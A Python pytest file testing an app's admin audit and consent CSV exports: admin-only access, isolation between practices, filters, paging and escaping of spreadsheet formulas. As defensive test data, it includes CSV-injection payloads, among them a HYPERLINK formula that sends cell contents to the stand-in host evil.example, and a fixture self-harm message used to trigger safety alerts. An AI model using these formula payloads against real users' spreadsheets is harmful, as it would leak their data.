"""Admins pull the audit trail and proof of consent; nobody else does, and nothing crosses practices."""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy import select

from inbox.common import audit
from inbox.extensions import db
from inbox.models import AuditEvent, OptOutRequest
from inbox.texting import consent
from inbox.web.admin.compliance import spreadsheet_safe
from tests import factories
from tests.conftest import StaffClient


def rows(response) -> list[dict]:
    """Parse a CSV answer."""
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def admin_browser(app, practice, email="admin@example.com"):
    """A logged-in admin of `practice`."""
    admin = factories.user(practice, email=email, role="admin", first_name="Avery", last_name="Kim")
    browser = StaffClient(app.test_client())
    browser.login(admin.email)
    return browser, admin


def test_audit_export_filters_and_is_itself_audited(app, practice, staff_client, staff):
    journey = factories.journey(factories.contact(practice))
    staff_client.get(f"/api/journeys/{journey.id}/messages")
    other = factories.practice(name="Other", number="+15005550999")
    outsider = factories.user(other, email="o@other.example")
    StaffClient(app.test_client()).login(outsider.email)
    browser, admin = admin_browser(app, practice)
    response = browser.get(f"/admin/audit.csv?journey_id={journey.id}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    assert [(r["action"], r["user"]) for r in rows(response)] == [("thread.view", staff.email)]
    everything = rows(browser.get("/admin/audit.csv"))
    assert {r["user"] for r in everything} <= {staff.email, admin.email}  # nothing of the other practice
    assert "login" in {r["action"] for r in everything}
    by_user = rows(browser.get(f"/admin/audit.csv?user_id={staff.id}&action=login"))
    assert len(by_user) == 1
    assert browser.get("/admin/audit.csv?from=yesterday").status_code == 400
    exports = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "audit.export")).all()
    assert len(exports) == 3 and exports[0].user_id == admin.id


def test_proof_of_consent_export_holds_the_exact_evidence(app, practice):
    contact = factories.contact(practice, first_name="Maria", last_name="Lopez")
    consent.record(contact, "opted_in", "sms_keyword", evidence="YES", message_sid="SM" + "1" * 32)
    consent.record(contact, "opted_out", "staff_manual", evidence='=HYPERLINK("http://x")')
    db.session.commit()
    browser, _admin = admin_browser(app, practice)
    response = browser.get(f"/admin/contacts/{contact.id}/consent.csv")
    ledger = rows(response)
    assert [(r["state"], r["source"], r["evidence"], r["message_sid"]) for r in ledger] == [
        ("opted_in", "sms_keyword", "YES", "SM" + "1" * 32),
        ("opted_out", "staff_manual", '\'=HYPERLINK("http://x")', ""),  # no spreadsheet formulas
    ]
    # Every row says whose consent it is (the leading + is neutralised like any formula character).
    assert {(r["contact"], r["phone"]) for r in ledger} == {("Maria Lopez", "'" + contact.phone)}
    assert db.session.scalar(select(AuditEvent.action).where(AuditEvent.action == "consent.export"))


def test_exports_are_for_admins_of_that_practice_only(app, practice, staff_client):
    contact = factories.contact(practice)
    assert staff_client.get("/admin/audit.csv").status_code == 403
    assert staff_client.get(f"/admin/contacts/{contact.id}/consent.csv").status_code == 403
    other = factories.practice(name="Other", number="+15005550999")
    browser, _ = admin_browser(app, other, email="boss@other.example")
    assert browser.get(f"/admin/contacts/{contact.id}/consent.csv").status_code == 404
    assert app.test_client().get("/admin/audit.csv").status_code == 302


def test_audit_viewer_shows_the_practices_trail_filtered_and_paged(
    app, practice, staff_client, staff, admin_client
):
    journey = factories.journey(factories.contact(practice))
    other_journey = factories.journey(factories.contact(practice, phone="+14155550177"))
    staff_client.get(f"/api/journeys/{journey.id}/messages")
    staff_client.get(f"/api/journeys/{other_journey.id}/messages")
    other = factories.practice(name="Other", number="+15005550999")
    StaffClient(app.test_client()).login(factories.user(other, email="o@other.example").email)

    page = admin_client.get(f"/admin/audit?journey_id={journey.id}").get_data(as_text=True)
    assert page.count("<code>thread.view</code>") == 1 and f"journey #{journey.id}" in page
    assert f"journey #{other_journey.id}" not in page
    everything = admin_client.get("/admin/audit").get_data(as_text=True)
    assert "o@other.example" not in everything and "Other" not in everything.split("<h1>")[1]
    by_action = admin_client.get("/admin/audit?action=login").get_data(as_text=True)
    assert "<code>login</code>" in by_action and "<code>thread.view</code>" not in by_action
    assert admin_client.get("/admin/audit?from=not-a-date").status_code == 400
    views = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "audit.view")).all()
    assert [v.detail["filters"] for v in views][:2] == [{"journey_id": str(journey.id)}, {}]


def test_audit_viewer_pages_through_older_events(app, practice, admin_client, admin):
    from inbox.common import audit
    from inbox.web.admin import compliance

    for _ in range(compliance.PAGE + 5):
        audit.record("settings.view", practice, practice_id=practice.id, user_id=admin.id)
    db.session.commit()
    first = admin_client.get("/admin/audit?action=settings.view").get_data(as_text=True)
    assert first.count("<code>settings.view</code>") == compliance.PAGE
    older = re.search(r'id="audit-older" href="([^"]+)"', first).group(1).replace("&amp;", "&")
    second = admin_client.get(older).get_data(as_text=True)
    assert second.count("<code>settings.view</code>") == 5 and 'id="audit-older"' not in second


def test_audit_viewer_is_for_admins_only(staff_client, client):
    assert staff_client.get("/admin/audit").status_code == 403
    assert client.get("/admin/audit").status_code == 302


def test_audit_dates_are_the_practices_local_days(practice, admin_client, admin):
    from datetime import UTC, datetime

    from inbox.common import audit

    late_evening = audit.record("settings.view", practice_id=practice.id, user_id=admin.id)
    late_evening.created_at = datetime(2026, 11, 22, 4, 30, tzinfo=UTC)  # 23:30 on the 21st in New York
    db.session.commit()

    def shown(query: str) -> int:
        return len(rows(admin_client.get(f"/admin/audit.csv?action=settings.view&{query}")))

    assert shown("from=2026-11-21&to=2026-11-22") == 1
    assert shown("from=2026-11-22") == 0
    assert shown("from=2026-11-22T04:00:00%2B00:00") == 1  # an explicit offset is taken as given


# OWASP's CSV-injection list (a cell starting with = + - @, tab or CR), and what some spreadsheets also
# read as one: a line feed, and the full-width forms of = + - @.
FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]
STARTS = tuple(f[0] for f in FORMULAS)


@pytest.mark.parametrize("value", FORMULAS, ids=repr)
def test_a_cell_that_could_start_a_formula_is_kept_as_text(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Maria", "", " =1", "1+1", "'=1", 7, None], ids=repr)
def test_other_cells_are_left_alone(value):
    assert spreadsheet_safe(value) == value


TAB_FORMULA = '\t=HYPERLINK("http://evil.example/?"&A1,"Open")'
WIDE_FORMULA = '＝HYPERLINK("http://evil.example")'
# Every CSV the app serves, with the query each test fetch uses.
EXPORTS = {
    "/admin/audit.csv": "/admin/audit.csv",
    "/admin/contacts/<int:contact_id>/consent.csv": "/admin/contacts/{contact_id}/consent.csv",
    "/admin/safety-alerts.csv": "/admin/safety-alerts.csv",
}


def test_the_export_table_covers_every_csv_of_the_app(app):
    assert {r.rule for r in app.url_map.iter_rules() if r.rule.endswith(".csv")} == set(EXPORTS)


def test_no_cell_of_any_export_can_start_a_formula(app, practice, inbound, staff_client, admin_client):
    # An opt-out text that starts with a tab and a formula, confirmed by staff: it is the ledger's evidence.
    phone = "+14155550142"
    contact = factories.contact(practice, phone=phone, first_name=WIDE_FORMULA, last_name="")
    factories.journey(contact)
    inbound(TAB_FORMULA + " please stop texting me", from_=phone)
    request_id = db.session.scalar(select(OptOutRequest.id))
    assert staff_client.post(f"/api/opt-out-requests/{request_id}/confirm", json={}).status_code == 200
    # A risk text from the same person: the safety record names them.
    inbound("I want to kill myself tonight", from_=phone)
    # Someone whose email starts a formula (made by hand: the forms would refuse it) in the audit trail.
    odd = factories.user(practice, email="\r=1+1@example.com")
    audit.record("login", odd, user_id=odd.id)
    db.session.commit()
    cells = []
    for path in EXPORTS.values():
        answer = admin_client.get(path.format(contact_id=contact.id))
        assert answer.status_code == 200 and answer.mimetype == "text/csv", path
        cells += [c for row in csv.reader(io.StringIO(answer.get_data(as_text=True))) for c in row]
    unsafe = [c for c in cells if c.startswith(STARTS)]
    assert unsafe == [], repr(unsafe)
    # The hostile values did reach the exports, kept as text.
    assert "'" + TAB_FORMULA + " please stop texting me" in cells
    assert "'" + WIDE_FORMULA in cells
    assert "'\r=1+1@example.com" in cells
